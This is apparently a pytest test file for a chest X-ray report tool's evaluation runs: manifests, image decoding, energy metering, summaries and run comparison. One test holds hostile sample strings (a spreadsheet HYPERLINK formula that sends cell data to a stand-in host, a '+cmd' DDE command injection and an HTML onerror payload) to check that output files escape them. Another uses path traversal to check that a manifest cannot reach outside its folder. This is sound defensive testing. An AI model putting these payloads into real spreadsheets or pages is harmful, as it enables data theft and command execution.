"""Offline evaluation runs: datasets (manifests and the IU X-ray layout) and their bounds, images
through the node's imaging code, energy counters, the summary files, resuming a killed run,
and `cxr-node eval run` / `eval compare` end to end with the demo model on the repository's NIH
images."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tarfile
import time
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image
from samples import NIH_IMAGES, wg04

from cxr_node.config import LimitsConfig
from cxr_node.evaluation import energy
from cxr_node.evaluation.compare import CompareError, compare
from cxr_node.evaluation.compare import markdown as compare_markdown
from cxr_node.evaluation.datasets import (
    DatasetError,
    StudyImages,
    load_dataset,
    picture_pixels,
)
from cxr_node.evaluation.run import RESULTS, RunError, read_results
from cxr_node.evaluation.summary import markdown, studies_csv, summarize, write_outputs
from cxr_node.imaging import ImagingError, View, model_pixels, prepare

MANIFEST = NIH_IMAGES / "evaluation.csv"
REPO = Path(__file__).resolve().parents[1]
NOT_MEASURED = "not measured: "


def picture(path: Path, size: tuple[int, int] = (64, 48), mode: str = "L") -> Path:
    """A small picture with some contrast, written as PNG (or JPEG by its suffix)."""
    columns, rows = size
    values = np.linspace(0, 255 if mode != "I;16" else 4000, rows * columns).reshape(rows, columns)
    image = Image.fromarray(values.astype(np.uint16 if mode == "I;16" else np.uint8))
    image = image if mode in ("L", "I;16") else image.convert(mode)
    image.save(path)
    return path


def write_jsonl(path: Path, rows: list[Any]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


# -- manifests ----------------------------------------------------------------------------------


def test_csv_and_jsonl_manifests_give_the_same_studies(tmp_path: Path) -> None:
    picture(tmp_path / "a.png")
    (tmp_path / "scans").mkdir()
    picture(tmp_path / "scans" / "b.jpg")
    (tmp_path / "m.csv").write_text(
        "id,images,views,findings,impression,patient_id\n"
        's1,a.png|scans/b.jpg,PA|lateral,"Clear lungs, no effusion.",Normal.,p1\n'
        "s2,a.png,,Small left effusion.,,\n")
    write_jsonl(tmp_path / "m.jsonl", [
        {"id": "s1", "images": [{"path": "a.png", "view": "PA"},
                                {"path": "scans/b.jpg", "view": "lateral"}],
         "findings": "Clear lungs, no effusion.", "impression": "Normal.", "patient_id": "p1"},
        {"id": "s2", "images": ["a.png"], "findings": "Small left effusion.", "impression": ""},
    ])
    from_csv, from_jsonl = (load_dataset(tmp_path / name) for name in ("m.csv", "m.jsonl"))
    assert from_csv.studies == from_jsonl.studies
    s1, s2 = from_csv.studies
    assert [(i.path.name, i.view) for i in s1.images] == [("a.png", View.PA),
                                                          ("b.jpg", View.LATERAL)]
    assert (s1.patient_id, s1.reference) == ("p1", "Clear lungs, no effusion. Normal.")
    assert (s2.images[0].view, s2.patient_id, s2.reference) == (None, None,
                                                                "Small left effusion.")


def test_every_bad_line_of_a_manifest_is_named(tmp_path: Path) -> None:
    picture(tmp_path / "a.png")
    rows = [
        {"id": "ok", "images": ["a.png"], "findings": "Clear.", "impression": ""},
        {"images": ["a.png"], "findings": "Clear.", "impression": ""},
        {"id": "ok", "images": ["a.png"], "findings": "Clear.", "impression": ""},
        {"id": "v", "images": [{"path": "a.png", "view": "OBLIQUE"}], "findings": "x",
         "impression": ""},
        {"id": "t", "images": ["a.png"], "findings": " ", "impression": ""},
        {"id": "n", "images": ["a.png"] * 17, "findings": "x", "impression": ""},
        {"id": "m", "images": ["absent.png"], "findings": "x", "impression": ""},
        {"id": "k", "images": ["a.png"], "finding": "x", "impression": ""},
        {"id": "\x1b[2J", "images": ["a.png"], "findings": "x", "impression": ""},
        {"id": "long", "images": ["a.png"], "findings": "x" * 20_001, "impression": ""},
    ]
    path = write_jsonl(tmp_path / "m.jsonl", rows)
    with path.open("a") as f:
        f.write("{not json\n")
    with pytest.raises(DatasetError) as caught:
        load_dataset(path)
    problems = caught.value.problems
    assert [p.split(": ", 1)[0] for p in problems] == [f"{path}:{n}" for n in range(2, 12)]
    for expected in ('"id" is missing', "id 'ok' again (first on line 1)",
                     "view 'OBLIQUE' is not one of", "findings and impression are both empty",
                     "1 to 16 images", "'absent.png' is not a file", "unknown key 'finding'",
                     '"id" must be 1 to 200 printable', "longer than 20000", "not JSON"):
        assert any(expected in p for p in problems), expected


def test_a_csv_manifest_names_its_columns_and_cells(tmp_path: Path) -> None:
    picture(tmp_path / "a.png")
    path = tmp_path / "m.csv"
    path.write_text("id,image,findings,impression\n")
    with pytest.raises(DatasetError, match=r"m\.csv:1: the header must name the columns"):
        load_dataset(path)
    path.write_text("id,images,views,findings,impression\ns1,a.png|a.png,PA,x,y\ns2,a.png,x\n")
    with pytest.raises(DatasetError) as caught:
        load_dataset(path)
    assert caught.value.problems == [
        f"{path}:2: 2 images but 1 views (separate both with '|')",
        f"{path}:3: 3 cells, the header has 5"]


def test_a_manifest_cannot_reach_outside_its_folder(tmp_path: Path) -> None:
    """Relative paths that climb out, absolute paths and symlinks that lead out are refused
    unless allowed: a manifest from elsewhere cannot make the run read other files."""
    outside = picture(tmp_path / "outside.png")
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "link.png").symlink_to(outside)
    for name in ("../outside.png", str(outside), "link.png"):
        path = write_jsonl(folder / "m.jsonl", [{"id": "s", "images": [name], "findings": "x",
                                                 "impression": ""}])
        with pytest.raises(DatasetError, match=r"m\.jsonl:1: image 1: .* is outside the "
                                               r"manifest's folder \(allow it with "
                                               r"--allow-outside-paths\)"):
            load_dataset(path)
        [study] = load_dataset(path, allow_outside=True).studies
        assert study.images[0].path == outside


def test_an_oversized_manifest_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import cxr_node.evaluation.datasets as datasets

    monkeypatch.setattr(datasets, "MAX_MANIFEST_BYTES", 100)
    path = tmp_path / "m.csv"
    path.write_text("id,images,findings,impression\n" + "s,a.png,x,y\n" * 20)
    with pytest.raises(DatasetError, match=r"m\.csv: 270 bytes, more than 100; split"):
        load_dataset(path)


# -- the IU X-ray Open-i layout -------------------------------------------------------------------


def iu_xml(number: int, findings: str, impression: str, images: list[str]) -> bytes:
    """A report XML in the Open-i shape, with this project's own words."""
    parents = "".join(f'<parentImage id="{i}"><figureId>F1</figureId></parentImage>'
                      for i in images)
    return (f'<?xml version="1.0" encoding="utf-8"?><eCitation><uId id="CXR{number}"/>'
            f'<MedlineCitation><Article><Abstract>'
            f'<AbstractText Label="FINDINGS">{findings}</AbstractText>'
            f'<AbstractText Label="IMPRESSION">{impression}</AbstractText>'
            f"</Abstract></Article></MedlineCitation><MeSH><major>normal</major></MeSH>"
            f"{parents}</eCitation>").encode()


def test_the_iu_xray_layout_pairs_reports_with_images_by_parent_image_id(tmp_path: Path) -> None:
    with tarfile.open(tmp_path / "NLMCXR_reports.tgz", "w:gz") as archive:
        for number, xml in (
            (1, iu_xml(1, "Clear lungs.", "Normal.", ["CXR1_1_IM-0001-3001",
                                                      "CXR1_1_IM-0001-4001"])),
            (2, iu_xml(2, "Small right effusion.", "", ["CXR2_IM-0652-1001"])),
            (3, iu_xml(3, "", "", ["CXR3_IM-1384-1001"])),
            (4, iu_xml(4, "Heart enlarged.", "Cardiomegaly.", ["CXR4_IM-2050-1001"])),
        ):
            info = tarfile.TarInfo(f"ecgen-radiology/{number}.xml")
            info.size = len(xml)
            archive.addfile(info, io.BytesIO(xml))
    (tmp_path / "png").mkdir()
    picture(tmp_path / "png" / "CXR1_1_IM-0001-3001.png")
    picture(tmp_path / "png" / "CXR1_1_IM-0001-4001.png")
    (tmp_path / "dcm" / "2").mkdir(parents=True)
    shutil.copy(wg04("RG1_UNCR.dcm"), tmp_path / "dcm" / "2" / "2_IM-0652-1001.dcm")
    picture(tmp_path / "png" / "CXR3_IM-1384-1001.png")

    dataset = load_dataset(tmp_path)
    assert dataset.layout == "iu-xray"
    assert [(s.id, [i.path.name for i in s.images], s.reference) for s in dataset.studies] == [
        ("CXR1", ["CXR1_1_IM-0001-3001.png", "CXR1_1_IM-0001-4001.png"], "Clear lungs. Normal."),
        ("CXR2", ["2_IM-0652-1001.dcm"], "Small right effusion."),
    ]
    assert dataset.skipped == (
        ("CXR3", "the report has neither findings nor impression"),
        ("CXR4", f"none of its 1 image(s) is in {tmp_path}"),
    )


# -- images ---------------------------------------------------------------------------------------


def test_pictures_are_scaled_as_dicom_images_are(tmp_path: Path) -> None:
    eight_bit = picture(tmp_path / "a.png", (300, 200))
    pixels = picture_pixels(eight_bit, 150, LimitsConfig())
    expected = model_pixels(np.asarray(Image.open(eight_bit), dtype=np.float32) / 255.0, 150)
    assert pixels.shape == (100, 150) and np.array_equal(pixels, expected)
    deep = picture_pixels(picture(tmp_path / "b.png", mode="I;16"), 896, LimitsConfig())
    assert (deep.min(), deep.max()) == (0, 255)  # its own range stretched, not 0..65535
    rgba = picture_pixels(picture(tmp_path / "c.png", mode="RGBA"), 896, LimitsConfig())
    assert rgba.dtype == np.uint8 and rgba.ndim == 2
    assert picture_pixels(picture(tmp_path / "d.jpg"), 896, LimitsConfig()).shape == (48, 64)


def test_a_picture_larger_than_the_limits_is_not_decoded(tmp_path: Path) -> None:
    path = picture(tmp_path / "big.png", (100, 100))
    with pytest.raises(ImagingError, match=r"declares 100 x 100 = 10,000 pixels, more than "
                                           r"limits\.max_image_pixels \(9,999\); not decoded"):
        picture_pixels(path, 896, LimitsConfig(max_image_pixels=9_999))


@pytest.mark.parametrize(("content", "reason"), [
    (b"\x89PNG\r\n\x1a\n" + b"\0" * 40, "not readable as a PNG or JPEG image"),
    (None, "cannot be decoded"),
    (b"GIF89a" + b"\0" * 40, "not readable as a PNG or JPEG image"),
])
def test_a_broken_picture_fails_with_a_reason_that_names_no_file(
        tmp_path: Path, content: bytes | None, reason: str) -> None:
    path = tmp_path / "1.2.840.99.png"
    if content is None:
        content = picture(tmp_path / "whole.png", (400, 400)).read_bytes()[:300]
    path.write_bytes(content)
    with pytest.raises(ImagingError, match=reason) as caught:
        picture_pixels(path, 896, LimitsConfig())
    assert "1.2.840.99" not in str(caught.value)


def test_study_images_go_through_the_decoder_process(tmp_path: Path) -> None:
    """DICOM as `imaging.prepare` renders it, pictures as `picture_pixels`, both in the child
    process; the view of a DICOM file without one in the manifest comes from its header."""
    dicom = tmp_path / "chest.dcm"
    shutil.copy(wg04("RG1_UNCR.dcm"), dicom)
    picture(tmp_path / "side.png")
    write_jsonl(tmp_path / "m.jsonl", [{"id": "s", "images": [
        "chest.dcm", {"path": "side.png", "view": "LATERAL"}], "findings": "x", "impression": ""}])
    [study] = load_dataset(tmp_path / "m.jsonl").studies
    images = StudyImages(LimitsConfig())
    try:
        selection = images.select(study, 256, 2)
        child = images.decoder.pid
    finally:
        images.close()
    assert child is not None and child != os.getpid()
    frontal, lateral = selection.images
    assert (frontal.view, lateral.view) == (View.PA, View.LATERAL)
    assert np.array_equal(frontal.pixels, prepare(dicom, 256))
    assert np.array_equal(lateral.pixels, picture_pixels(tmp_path / "side.png", 256,
                                                         LimitsConfig()))


# -- energy ---------------------------------------------------------------------------------------


def powercap_zone(root: Path, zone: str, name: str, energy_uj: int, max_uj: int) -> Path:
    folder = root / zone
    folder.mkdir(parents=True)
    (folder / "name").write_text(name + "\n")
    (folder / "energy_uj").write_text(f"{energy_uj}\n")
    (folder / "max_energy_range_uj").write_text(f"{max_uj}\n")
    return folder


def test_rapl_sums_packages_and_dram_across_a_wrap(tmp_path: Path) -> None:
    """A fake powercap tree as Linux lays it out: the package counter wraps between the marks."""
    package = powercap_zone(tmp_path, "intel-rapl:0", "package-0", 999_000_000, 1_000_000_000)
    core = powercap_zone(tmp_path, "intel-rapl:0:0", "core", 5, 1_000_000_000)
    dram = powercap_zone(tmp_path, "intel-rapl:0:2", "dram", 1_000_000, 1_000_000_000)
    powercap_zone(tmp_path, "intel-rapl:1", "psys", 7, 1_000_000_000)
    (tmp_path / "intel-rapl").mkdir()  # the control type: no counter
    meter = energy.meter_for("cpu", tmp_path)
    assert isinstance(meter, energy.RaplMeter)
    assert [z.name for z in meter.zones] == ["package-0 (intel-rapl:0)", "dram (intel-rapl:0:2)"]
    mark = meter.mark()
    (package / "energy_uj").write_text("2000000\n")  # wrapped: 1,000,000 + 2,000,000 uJ
    (core / "energy_uj").write_text("900000000\n")  # inside the package: not added again
    (dram / "energy_uj").write_text("1500000\n")  # 500,000 uJ
    assert meter.joules_since(mark) == pytest.approx(3.5)
    assert "RAPL" in meter.method and "other processes" in meter.method


def test_no_counter_is_not_measured_with_the_reason(tmp_path: Path) -> None:
    meter = energy.meter_for("cpu", tmp_path / "absent")
    assert meter.method.startswith(NOT_MEASURED + "no RAPL package zone under")
    assert meter.joules_since(meter.mark()) is None
    powercap_zone(tmp_path, "intel-rapl:0", "package-0", 1, 10)
    (tmp_path / "intel-rapl:0" / "energy_uj").write_text("garbage")
    assert energy.meter_for("cpu", tmp_path).method.startswith(NOT_MEASURED)
    assert energy.co2_grams(None, 400) is None and energy.co2_grams(3.6e6, 400) == 400


def test_a_gpu_without_nvml_is_not_measured() -> None:
    torch = pytest.importorskip("torch")
    if torch.cuda.is_available():
        pytest.skip("a GPU is present: its counter is read")
    meter = energy.meter_for("cuda:0")
    assert meter.method.startswith(NOT_MEASURED)
    assert "pynvml" in meter.method or "NVML" in meter.method


# -- results, summary and comparison without a model ----------------------------------------------

@pytest.fixture
def no_meteor(monkeypatch: pytest.MonkeyPatch) -> None:
    """METEOR not measured (its jar takes seconds per call): these tests are about the rest."""
    from cxr_node.evaluation import scores

    monkeypatch.setattr(scores, "meteor_jar", lambda: None)


MODEL = {"name": "m", "version": "1", "architecture": "gemma3", "quantization": "nf4",
         "adapter": None, "fingerprint": "0" * 64, "demo": True}


def result(study: str, reference: str, draft: str, status: str = "drafted") -> dict[str, Any]:
    return {"id": study, "patient_id": None, "status": status, "reason": None,
            "reference": {"findings": reference, "impression": ""},
            "draft": {"findings": draft, "impression": "", "text": draft, "notes": []},
            "timing": {"seconds": 0.5, "generate_seconds": 0.4, "batch_size": 1,
                       "new_tokens": 10, "device": "cpu", "energy_joules": None,
                       "energy_method": "not measured: test"}}


def run_folder(folder: Path, results: list[dict[str, Any]]) -> Path:
    folder.mkdir()
    write_jsonl(folder / RESULTS, results)
    run = {"model": MODEL, "settings": {"device": "cpu", "dtype": "auto"},
           "data": {"source": "m.csv", "layout": "manifest"}, "grid_intensity_g_per_kwh": None}
    write_outputs(folder, summarize(results, run, planned=len(results)), results)
    return folder


REFERENCES = ["Small left pleural effusion.", "No pneumothorax. Heart size normal.",
              "Cardiomegaly with mild edema.", "Clear lungs.", "Right lower lobe consolidation.",
              "Normal chest."]


def test_a_torn_last_line_is_cut_and_a_broken_one_is_named(tmp_path: Path) -> None:
    path = write_jsonl(tmp_path / RESULTS, [result("a", "x", "y"), result("b", "x", "y")])
    whole = path.read_bytes()
    with path.open("ab") as f:
        f.write(b'{"id": "c", "sta')  # killed in the middle of a write
    assert [r["id"] for r in read_results(path, repair=False)] == ["a", "b"]
    assert path.read_bytes() != whole
    assert [r["id"] for r in read_results(path, repair=True)] == ["a", "b"]
    assert path.read_bytes() == whole
    with path.open("ab") as f:
        f.write(b'{"id": "c"}\n' + json.dumps(result("a", "x", "y")).encode() + b"\n")
    with pytest.raises(RunError, match=r"results\.jsonl:3: not a result line of this version "
                                       r"\(no id or status\)"):
        read_results(path, repair=True)
    path.write_bytes(whole + json.dumps(result("a", "x", "y")).encode() + b"\n")
    with pytest.raises(RunError, match=r"results\.jsonl:3: study 'a' again \(first on line 1\)"):
        read_results(path, repair=True)


def test_spreadsheet_and_markdown_show_hostile_text_as_text(no_meteor: None) -> None:
    """A draft or id that a spreadsheet would run as a formula is quoted; Markdown stays one
    table row and shows no markup."""
    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
    rows = list(csv.reader(io.StringIO(studies_csv([result("+cmd|' /C calc'!A0", "x",
                                                           hostile)]))))
    assert rows[1][0] == "'+cmd|' /C calc'!A0"
    assert rows[1][4] == "'" + hostile
    failed = result("a|b <img src=x onerror=alert(1)>\n# x", "x", "", status="draft_failed")
    failed["reason"] = "bad | reason"
    run = {"model": MODEL, "settings": {"device": "cpu", "dtype": "auto"},
           "data": {"source": "m.csv", "layout": "manifest"}, "grid_intensity_g_per_kwh": None}
    text = markdown(summarize([failed], run, planned=1))
    row = next(line for line in text.splitlines() if "draft_failed" in line)
    assert row == (r"| a\|b \<img src=x onerror=alert(1)\> # x | draft_failed | bad \| reason |")


def test_the_summary_says_demo_and_names_every_implementation(tmp_path: Path,
                                                             no_meteor: None) -> None:
    folder = run_folder(tmp_path / "run", [result(str(i), r, r) for i, r in enumerate(REFERENCES)])
    summary = json.loads((folder / "summary.json").read_text())
    assert summary["demo"] is True
    assert (folder / "summary.md").read_text().startswith("# DEMO")
    assert all(s["implementation"] for s in summary["scores"])
    rouge = next(s for s in summary["scores"] if s["name"] == "ROUGE-L")
    assert rouge["value"] == pytest.approx(1.0)
    assert summary["energy"]["joules"] is None and summary["energy"]["note"] == "not measured"
    with Image.open(folder / "label-f1.png") as plot:
        plot.load()
        assert plot.format == "PNG" and plot.width > 500


def test_compare_gives_paired_bootstrap_intervals_seeded(tmp_path: Path, no_meteor: None) -> None:
    a = run_folder(tmp_path / "a", [result(str(i), r, r) for i, r in enumerate(REFERENCES)])
    worse = [result(str(i), r, "Clear lungs.") for i, r in enumerate(REFERENCES)]
    b = run_folder(tmp_path / "b", [*worse, result("only-b", "x", "x")])
    first = compare(a, b, resamples=200, seed=7)
    assert first == compare(a, b, resamples=200, seed=7, jobs=2)  # shared out: the same
    assert (first["studies"], first["only_in_a"], first["only_in_b"]) == (6, 0, 1)
    rows = {r["name"]: r for r in first["scores"]}
    rouge = rows["ROUGE-L"]
    assert rouge["a"] == pytest.approx(1.0) and rouge["difference"] < 0
    assert rouge["interval"][0] <= rouge["difference"] <= rouge["interval"][1] < 0
    assert rows["METEOR"]["interval"] is None
    assert compare(a, a, resamples=50)["scores"][5]["interval"] == [0.0, 0.0]
    assert "| ROUGE-L | 1.0000 |" in compare_markdown(first)
    assert compare_markdown(first).startswith("# DEMO")


def test_compare_refuses_other_implementations_or_other_references(
        tmp_path: Path, no_meteor: None) -> None:
    a = run_folder(tmp_path / "a", [result(str(i), r, r) for i, r in enumerate(REFERENCES)])
    b = run_folder(tmp_path / "b", [result(str(i), r, r) for i, r in enumerate(REFERENCES)])
    summary = json.loads((b / "summary.json").read_text())
    summary["scores"][0]["implementation"] = "another BLEU"
    (b / "summary.json").write_text(json.dumps(summary))
    with pytest.raises(CompareError, match=r"other implementations of BLEU-1: their numbers are "
                                           "not comparable"):
        compare(a, b, resamples=10)
    c = run_folder(tmp_path / "c", [result(str(i), r + " Stable.", r)
                                    for i, r in enumerate(REFERENCES)])
    with pytest.raises(CompareError, match=r"study '0' has another reference .* \(6 studies "
                                           r"differ\): the runs are not of the same data"):
        compare(a, c, resamples=10)
    with pytest.raises(CompareError, match=r"no summary\.json; finish the run first"):
        compare(a, tmp_path, resamples=10)


# -- `cxr-node eval run` and `eval compare` with the demo model -----------------------------------


def cli(*args: str | Path, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "cxr_node.cli", "eval", *map(str, args)],
                          capture_output=True, text=True, timeout=timeout, cwd=REPO)


def config(folder: Path, tokens: int, batch_size: int = 1) -> Path:
    path = folder / f"eval-{tokens}-{batch_size}.yaml"
    path.write_text(f"model:\n  generation:\n    max_new_tokens: {tokens}\n"
                    f"    min_new_tokens: {tokens}\nqueue:\n  batch_size: {batch_size}\n")
    return path


@pytest.mark.slow
def test_eval_run_and_compare_on_the_repository_manifest(demo_model: Path, tmp_path: Path) -> None:
    runs = {}
    for tokens in (48, 24):
        out = tmp_path / f"run-{tokens}"
        done = cli("run", "--model", demo_model, "--data", MANIFEST, "--out", out,
                   "--config", config(tmp_path, tokens, batch_size=2), "--json")
        assert done.returncode == 0, done.stderr
        assert "4/4 studies" in done.stderr  # the progress bar
        runs[tokens] = out
        summary = json.loads(done.stdout)
        assert summary == json.loads((out / "summary.json").read_text())
        assert summary["demo"] is True and summary["studies"]["scored"] == 4
        assert summary["time"]["new_tokens"] == 4 * tokens
        assert summary["energy"]["method"].startswith(NOT_MEASURED) or \
            summary["energy"]["joules"] is not None
        assert (out / "summary.md").read_text().startswith("# DEMO — DEMO MODEL")
        lines = [json.loads(line) for line in (out / RESULTS).read_text().splitlines()]
        assert [r["id"] for r in lines] == [f"nih-{n}" for n in (
            "00000129_000", "00000284_000", "00000353_000", "00000427_000")]
        assert all(r["timing"]["new_tokens"] == tokens for r in lines)
        assert lines[0]["labels"]["reference"]["No Finding"] == 1
        rows = list(csv.DictReader(io.StringIO((out / "studies.csv").read_text())))
        assert [r["id"] for r in rows] == [r["id"] for r in lines]
        with Image.open(out / "label-f1.png") as plot:
            plot.verify()

    again = cli("run", "--model", demo_model, "--data", MANIFEST, "--out", runs[48],
                "--config", config(tmp_path, 24, batch_size=2))
    assert again.returncode == 2
    assert "holds a run with other model: resume it with the data, model and settings" in \
        again.stderr

    compared = cli("compare", runs[48], runs[24], "--resamples", "100", "--json")
    assert compared.returncode == 0, compared.stderr
    comparison = json.loads(compared.stdout)
    assert comparison["studies"] == 4 and comparison["a"]["demo"] is True
    assert all(row["implementation"] for row in comparison["scores"])
    table = cli("compare", runs[48], runs[24], "--resamples", "100")
    assert table.stdout.startswith("# DEMO") and "| BLEU-1 |" in table.stdout


@pytest.mark.slow
def test_a_killed_run_resumes_without_duplicates(demo_model: Path, tmp_path: Path) -> None:
    """Killed (SIGKILL) after its first result, with a torn line at the end of the file: the
    same command drafts only what is missing, and the summary is the uninterrupted run's."""
    data = tmp_path / "data"
    data.mkdir()
    studies = []
    for copy in range(3):
        for image in sorted(NIH_IMAGES.glob("*.png")):
            shutil.copy(image, data / image.name)
            studies.append({"id": f"{image.stem}-{copy}", "images": [image.name],
                            "findings": "The lungs are clear.", "impression": "Normal."})
    manifest = write_jsonl(data / "studies.jsonl", studies)
    settings = config(tmp_path, 64)
    arguments = ["--model", demo_model, "--data", manifest, "--config", settings]

    whole = cli("run", *arguments, "--out", tmp_path / "whole")
    assert whole.returncode == 0, whole.stderr

    out = tmp_path / "killed"
    process = subprocess.Popen(
        [sys.executable, "-m", "cxr_node.cli", "eval", "run", *map(str, arguments), "--out",
         str(out)], cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while not ((out / RESULTS).exists() and (out / RESULTS).read_bytes().count(b"\n")):
            assert process.poll() is None and time.monotonic() < deadline
            time.sleep(0.01)
        process.send_signal(signal.SIGKILL)
    finally:
        process.kill()
        process.wait()
    before = (out / RESULTS).read_bytes().count(b"\n")
    assert 1 <= before < len(studies)
    with (out / RESULTS).open("ab") as f:
        f.write(b'{"id": "00000129_000-2", "status": "dra')
    assert not (out / "summary.json").exists()

    resumed = cli("run", *arguments, "--out", out)
    assert resumed.returncode == 0, resumed.stderr
    assert f"{before}/{len(studies)} studies" in resumed.stderr  # started where it stopped
    ids = [json.loads(line)["id"] for line in (out / RESULTS).read_text().splitlines()]
    assert sorted(ids) == sorted(s["id"] for s in studies)  # each once, the torn one included
    first, second = (json.loads((tmp_path / name / "summary.json").read_text())
                     for name in ("whole", "killed"))
    for key in ("scores", "per_observation", "studies"):
        assert first[key] == second[key]
    assert first["time"]["new_tokens"] == second["time"]["new_tokens"]
